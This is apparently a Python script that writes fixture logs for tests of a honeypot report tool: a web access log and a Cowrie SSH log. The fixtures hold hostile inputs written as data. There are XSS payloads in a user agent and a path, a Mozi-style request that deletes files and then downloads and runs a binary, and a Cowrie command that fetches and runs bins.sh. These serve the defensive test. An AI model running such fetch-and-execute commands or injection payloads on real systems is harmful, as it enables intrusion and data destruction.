#!/usr/bin/env python3
"""make_fixture.py - writes the fixture logs the report tests import (access_log, cowrie.json).
Run it only to change the fixture; the golden files under golden/ must then be regenerated
(HANIPO_UPDATE_GOLDEN=1 pytest tests/e2e/test_report.py) and reviewed."""
import base64
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
PWN_UA = "<script>document.body.setAttribute('data-pwned','ua')</script>`rm -rf`|col|\x1b[31m"
PWN_PATH = "/<svg/onload=document.body.setAttribute('data-pwned','path')>"


def req(ts, ip, host, method, target, ua, status, rule, body=b""):
    hdr = [f"{method} {target} HTTP/1.1", f"Host: {host}"]
    if ua is not None:
        hdr.append("User-Agent: " + ua)
    raw = ("\n".join(hdr) + "\n\n").encode() + body
    t = target.replace(" ", "%20").replace('"', "%22")
    hostport = host if ":" in host else host + ":80"
    return (f'[{ts}] {ip} {hostport} "{method} {t} HTTP/1.1" {status} {rule} '
            f'{base64.b64encode(raw).decode()}')


def access_log():
    L = []
    # the day before (Asia/Tokyo 2026-11-25)
    L.append(req("2026-11-25 10:00:00+0900", "198.51.100.7", "192.0.2.1", "GET", "/", "Mozilla/5.0 zgrab/0.x", 200, "False"))
    L.append(req("2026-11-25 11:00:00+0900", "198.51.100.7", "192.0.2.1", "GET", "/.env", "Mozilla/5.0 zgrab/0.x", 200, "False"))
    L.append(req("2026-11-25 12:00:00+0900", "203.0.113.9", "192.0.2.1", "GET", "/wp-login.php", "Mozilla/5.0", 200, "1011"))
    # the day (Asia/Tokyo 2026-11-26); 00:30 JST is still 2026-11-25 in UTC
    L.append(req("2026-11-26 00:30:00+0900", "198.51.100.7", "192.0.2.1", "GET", "/", "Mozilla/5.0 zgrab/0.x", 200, "False"))
    L.append(req("2026-11-26 03:15:10+0900", "203.0.113.50", "192.0.2.1", "GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.10/Mozi.m;chmod+777+Mozi.m;/tmp/Mozi.m+jaws", "Hello, world", 200, "False"))
    # two identical lines: two events
    L.append(req("2026-11-26 09:00:00+0900", "203.0.113.66", "192.0.2.1", "POST", "/cgi-bin/luci/;stok=/locale", PWN_UA, 200, "False", b"x=1"))
    L.append(req("2026-11-26 09:00:00+0900", "203.0.113.66", "192.0.2.1", "POST", "/cgi-bin/luci/;stok=/locale", PWN_UA, 200, "False", b"x=1"))
    L.append(req("2026-11-26 12:34:56+0900", "2001:db8::5", "[2001:db8::1]", "GET", "/phpinfo.php", "curl/7.88.1", 200, "False"))
    L.append(req("2026-11-26 18:00:00+0900", "203.0.113.9", "192.0.2.1:8080", "GET", "/wp-login.php", "Mozilla/5.0", 200, "1011"))
    # addresses the MaxMind test databases know (../shared/data/mmdb): GB, JP, AS1221
    L.append(req("2026-11-26 13:00:00+0900", "81.2.69.142", "192.0.2.1", "GET", "/.env", "Mozilla/5.0 zgrab/0.x", 200, "False"))
    L.append(req("2026-11-26 13:00:01+0900", "81.2.69.142", "192.0.2.1", "GET", "/.git/config", "Mozilla/5.0 zgrab/0.x", 200, "False"))
    L.append(req("2026-11-26 14:00:00+0900", "2001:218::5", "192.0.2.1", "GET", "/phpinfo.php", "curl/7.88.1", 200, "False"))
    L.append(req("2026-11-26 15:00:00+0900", "1.128.0.1", "192.0.2.1", "GET", "/.env", "python-requests/2.31.0", 200, "False"))
    L.append(req("2026-11-26 23:59:59+0900", "198.51.100.200", "192.0.2.1", "GET", PWN_PATH, "Mozilla/5.0 (X11; Linux x86_64)", 404, "False"))
    # the day after in Tokyo, still 2026-11-26 in UTC
    L.append(req("2026-11-27 00:00:00+0900", "192.0.2.77", "192.0.2.1", "GET", "/robots.txt", "Googlebot", 200, "False"))
    L.append(req("2026-11-27 08:59:59+0900", "192.0.2.77", "192.0.2.1", "GET", "/favicon.ico", "Googlebot", 200, "False"))
    # malformed
    L.append("this is not an access_log line")
    L.append('[2026-11-26 10:00:00+0900] 203.0.113.1 192.0.2.1:80 "GET / HTTP/1.1" 200 False !!!notbase64')
    (HERE / "access_log").write_text("\n".join(L) + "\n")


def cowrie():
    def cw(ts, eid, **kw):
        d = {"eventid": eid, "timestamp": ts, "src_ip": "198.18.0.9", "src_port": 40001,
             "dst_ip": "192.0.2.1", "dst_port": 22, "session": "a1b2c3d4e5f6",
             "protocol": "ssh", "sensor": "cowrie-1"}
        d.update(kw)
        return json.dumps(d)
    C = [
        cw("2026-11-26T01:00:00.000000Z", "cowrie.session.connect", message="New connection"),
        cw("2026-11-26T01:00:01.000000Z", "cowrie.client.version", version="SSH-2.0-Go"),
        cw("2026-11-26T01:00:01.500000Z", "cowrie.client.kex", hassh="ec7378c1a92f5a8dde7e8b7a1ddf33d1", hasshAlgorithms="curve25519-sha256"),
        cw("2026-11-26T01:00:02.000000Z", "cowrie.login.failed", username="root", password="admin"),
        cw("2026-11-26T01:00:03.000000Z", "cowrie.login.success", username="root", password="<b>|`x`"),
        cw("2026-11-26T01:00:04.000000Z", "cowrie.command.input", input="cd /tmp; wget http://192.0.2.10/bins.sh; sh bins.sh"),
        cw("2026-11-26T01:00:05.000000Z", "cowrie.session.file_download", url="http://192.0.2.10/bins.sh", shasum="0" * 64),
        cw("2026-11-26T01:00:06.000000Z", "cowrie.session.closed", duration=6.2),
        '{"eventid": "cowrie.login.failed"',
    ]
    (HERE / "cowrie.json").write_text("\n".join(C) + "\n")


if __name__ == "__main__":
    access_log()
    cowrie()
